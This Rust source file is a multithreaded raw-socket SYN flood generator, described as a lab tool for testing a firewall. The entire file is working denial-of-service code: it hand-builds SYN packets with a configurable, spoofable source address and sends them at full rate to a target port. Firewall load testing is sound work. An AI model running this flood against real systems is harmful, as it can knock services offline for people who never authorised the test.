//! SYN flood load generator for exercising the firewall in a lab.
//!
//! Sends raw SYN packets with randomized source ports from a configurable
//! number of worker threads, and reports per-worker packet counts on exit.

use std::net::{IpAddr, Ipv4Addr};
use std::thread;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use anyhow::Result;
use clap::Parser;
use pnet::packet::ip::IpNextHeaderProtocols;
use pnet::packet::ipv4::{self, MutableIpv4Packet};
use pnet::packet::tcp::{self, MutableTcpPacket, TcpFlags, TcpOption};
use pnet::transport::{transport_channel, TransportChannelType::Layer3};
use rand::Rng;

const PACKET_LEN: usize = 60; // 20 IPv4 + 40 TCP (20 header + 20 options)

/// SYN flood load generator
#[derive(Parser, Debug)]
#[command(name = "synguard-flood")]
#[command(version = "0.1.0")]
#[command(about = "Raw-socket SYN flood generator for firewall testing", long_about = None)]
struct Args {
    /// Source IP address
    #[arg(long, default_value = "172.28.1.10")]
    src: Ipv4Addr,

    /// Target IP address
    #[arg(long, default_value = "172.28.2.20")]
    target: Ipv4Addr,

    /// Target port
    #[arg(long, default_value_t = 80)]
    port: u16,

    /// Number of concurrent worker threads
    #[arg(long, default_value_t = 10)]
    threads: usize,

    /// Duration in seconds
    #[arg(long, default_value_t = 10)]
    duration: u64,
}

fn main() -> Result<()> {
    let args = Args::parse();

    println!("Starting SYN flood:");
    println!("  Target: {}:{}", args.target, args.port);
    println!("  Threads: {}", args.threads);
    println!("  Duration: {}s", args.duration);

    let deadline = Instant::now() + Duration::from_secs(args.duration);

    let mut handles = Vec::with_capacity(args.threads);
    for id in 0..args.threads {
        let (src, target, port) = (args.src, args.target, args.port);
        handles.push(thread::spawn(move || worker(id, src, target, port, deadline)));
    }
    for handle in handles {
        let _ = handle.join();
    }

    println!("\nFlood completed");
    Ok(())
}

fn worker(id: usize, src: Ipv4Addr, target: Ipv4Addr, port: u16, deadline: Instant) {
    // Raw layer-3 socket; requires CAP_NET_RAW.
    let (mut tx, _rx) = match transport_channel(4096, Layer3(IpNextHeaderProtocols::Tcp)) {
        Ok(pair) => pair,
        Err(e) => {
            eprintln!("Thread {}: failed to open raw socket: {}", id, e);
            return;
        }
    };

    let mut rng = rand::thread_rng();
    let mut buf = [0u8; PACKET_LEN];
    let mut sent = 0u64;

    while Instant::now() < deadline {
        let sport: u16 = rng.gen_range(1024..65535);
        let seq: u32 = rng.gen();
        let ident: u16 = rng.gen();

        let Some(packet) = build_syn(&mut buf, src, target, sport, port, seq, ident) else {
            eprintln!("Thread {}: packet buffer too small", id);
            return;
        };

        match tx.send_to(packet, IpAddr::V4(target)) {
            Ok(_) => sent += 1,
            Err(e) => eprintln!("Thread {}: error sending packet: {}", id, e),
        }
    }

    println!("Thread {}: Sent {} packets", id, sent);
}

/// Fill `buf` with an IPv4/TCP SYN and return the packet, checksummed.
fn build_syn(
    buf: &mut [u8; PACKET_LEN],
    src: Ipv4Addr,
    dst: Ipv4Addr,
    sport: u16,
    dport: u16,
    seq: u32,
    ident: u16,
) -> Option<MutableIpv4Packet<'_>> {
    let ts_val = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap_or_default()
        .as_millis() as u32;

    {
        let mut tcp_packet = MutableTcpPacket::new(&mut buf[20..])?;
        tcp_packet.set_source(sport);
        tcp_packet.set_destination(dport);
        tcp_packet.set_sequence(seq);
        tcp_packet.set_acknowledgement(0);
        tcp_packet.set_data_offset(10); // 20-byte header + 20 bytes of options
        tcp_packet.set_flags(TcpFlags::SYN);
        tcp_packet.set_window(65535);
        tcp_packet.set_options(&[
            TcpOption::mss(1460),
            TcpOption::nop(), // pad for alignment
            TcpOption::wscale(7),
            TcpOption::sack_perm(),
            TcpOption::timestamp(ts_val, 0),
        ]);
        let checksum = tcp::ipv4_checksum(&tcp_packet.to_immutable(), &src, &dst);
        tcp_packet.set_checksum(checksum);
    }

    let mut ip_packet = MutableIpv4Packet::new(&mut buf[..])?;
    ip_packet.set_version(4);
    ip_packet.set_header_length(5);
    ip_packet.set_total_length(PACKET_LEN as u16);
    ip_packet.set_identification(ident);
    ip_packet.set_ttl(64);
    ip_packet.set_next_level_protocol(IpNextHeaderProtocols::Tcp);
    ip_packet.set_source(src);
    ip_packet.set_destination(dst);
    let checksum = ipv4::checksum(&ip_packet.to_immutable());
    ip_packet.set_checksum(checksum);

    Some(ip_packet)
}
